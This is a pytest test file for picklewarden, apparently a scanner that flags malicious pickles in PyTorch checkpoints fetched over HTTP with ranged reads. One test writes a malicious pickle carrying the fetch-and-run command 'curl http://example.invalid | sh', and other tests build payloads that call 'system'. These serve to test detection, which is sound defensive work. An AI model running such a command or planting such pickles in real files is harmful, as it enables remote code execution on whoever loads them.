"""Remote objects are read in ranges: a 1 GB checkpoint costs its pickle and a few hundred KiB.

A threaded HTTP server on 127.0.0.1 honours Range requests and counts every byte it sends. The checkpoint
is a PyTorch ZIP archive written by ``tests/scale_samples.py`` with a 1 GiB storage member left as a hole
(a sparse file: the test needs neither torch nor a gigabyte of disk).
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from picklewarden import Verdict
from picklewarden.errors import ScanError
from picklewarden.limits import DEFAULT_LIMITS
from picklewarden.remote import RangedFile, WholeObjectRead, is_url, open_url, scan_url
from tests.scale_samples import GIB, RangeServer, make_checkpoint, malicious_pickle, serve

pytest.importorskip("fsspec")
pytest.importorskip("aiohttp")  # fsspec's HTTP backend

BUDGET = 256 * 1024
"""Bytes allowed on top of the pickle members."""


@pytest.fixture
def server(tmp_path: Path) -> Iterator[RangeServer]:
    with serve(tmp_path) as httpd:
        yield httpd


# -- tests ---------------------------------------------------------------------------------------------------


def test_the_checkpoint_is_what_torch_reads(tmp_path: Path) -> None:
    """The hand-written archive is a torch checkpoint to picklewarden's local reader (no anomalies)."""
    from picklewarden.filescan import scan_path

    out = tmp_path / "small.pt"
    make_checkpoint(out, storage=64)
    report = scan_path(str(out))
    assert (report.format, report.verdict, report.errors, report.findings) == ("torch-zip", Verdict.SAFE, (), ())


@pytest.mark.parametrize("payload", [False, True], ids=["benign", "malicious"])
def test_1gb_checkpoint_costs_its_pickle_plus_256k(tmp_path: Path, server: RangeServer, payload: bool) -> None:
    out = tmp_path / "big.pt"
    pickle_size = make_checkpoint(out, storage=GIB, payload=payload)
    assert out.stat().st_size > GIB and out.stat().st_blocks * 512 < 16 << 20  # sparse: nothing written
    ranged = open_url(server.url("big.pt"))
    report = scan_url(server.url("big.pt"), file=ranged)
    assert report.errors == ()
    assert report.verdict is (Verdict.MALICIOUS if payload else Verdict.SAFE)
    assert report.format == "torch-zip"
    assert server.sent <= pickle_size + BUDGET, (server.sent, server.requests, ranged.transfer)
    assert ranged.transfer.bytes == server.sent


def test_directory_and_pickle_reads_fit_the_budget(tmp_path: Path, server: RangeServer) -> None:
    """The ZIP reader and the machine alone, over HTTP: the budget the issue sets, whatever the checks
    layered on top of them read."""
    from picklewarden.containers import torchzip
    from picklewarden.pickle.machine import run_pickle

    out = tmp_path / "big.pt"
    pickle_size = make_checkpoint(out, storage=GIB, payload=True)
    ranged = open_url(server.url("big.pt"))
    archive = torchzip.open_torch_zip(ranged, DEFAULT_LIMITS)
    entry = archive.record("data.pkl")
    assert entry is not None
    payload, _ = torchzip.read_entry(ranged, entry, DEFAULT_LIMITS)
    program, _ = run_pickle(payload, 0, DEFAULT_LIMITS, file_like=False)
    assert program.complete and any(getattr(s, "name", "") == "system" for s in program.statements)
    assert server.sent <= pickle_size + BUDGET, (server.sent, server.requests)


def test_whole_object_reads_are_bounded(tmp_path: Path, server: RangeServer) -> None:
    data = os.urandom(10_000)
    (tmp_path / "blob.bin").write_bytes(data)
    with pytest.raises(WholeObjectRead):
        bytes(open_url(server.url("blob.bin"), whole=9_999))
    with pytest.raises(WholeObjectRead):
        list(open_url(server.url("blob.bin")))
    assert server.sent == 0
    assert bytes(open_url(server.url("blob.bin"))) == data


def test_a_remote_pickle_is_scanned(tmp_path: Path, server: RangeServer) -> None:
    (tmp_path / "evil.pkl").write_bytes(malicious_pickle("curl http://example.invalid | sh"))
    report = scan_url(server.url("evil.pkl"))
    assert report.verdict is Verdict.MALICIOUS and report.path == server.url("evil.pkl")
    assert [f.rule for f in report.findings] == ["PW100"]


def test_slices_match_the_bytes_and_blocks_are_cached(tmp_path: Path, server: RangeServer) -> None:
    data = os.urandom(50_000)
    (tmp_path / "blob.bin").write_bytes(data)
    ranged = open_url(server.url("blob.bin"), block=1024, cache=8192)
    assert len(ranged) == len(data)
    for start, stop in [(0, 10), (5, 3000), (49_990, 50_000), (1000, 1001), (-20, None), (0, 0), (100, 60_000)]:
        assert ranged[start:stop] == data[start:stop]
    assert ranged[123] == data[123] and ranged[-1] == data[-1]
    before = ranged.transfer
    assert ranged[1000:1010] == data[1000:1010]  # the block is still cached
    assert ranged.transfer == before
    with pytest.raises(IndexError):
        ranged[len(data)]
    with pytest.raises(ValueError):
        ranged[0:10:2]


def test_a_server_ignoring_range_is_an_error_not_a_download(tmp_path: Path, server: RangeServer) -> None:
    class WholeBody:
        size = 100_000

        def read(self, start: int, end: int) -> bytes:
            return bytes(self.size)  # what an HTTP 200 to a Range request carries

    with pytest.raises(ScanError, match="returned 100000 bytes"):
        RangedFile(WholeBody())[10:20]


def test_unreachable_and_missing_objects_are_errors(server: RangeServer) -> None:
    report = scan_url(server.url("nope.pt"))
    assert report.verdict is Verdict.ERROR and report.errors
    report = scan_url("http://127.0.0.1:9/nothing-listens-here.pt")
    assert report.verdict is Verdict.ERROR and report.errors


def test_is_url() -> None:
    assert is_url("s3://bucket/model.pt") and is_url("hf://org/name/model.bin") and is_url("https://x/y.pt")
    assert not is_url("model.pt") and not is_url("C:\\models\\model.pt") and not is_url("/tmp/x")
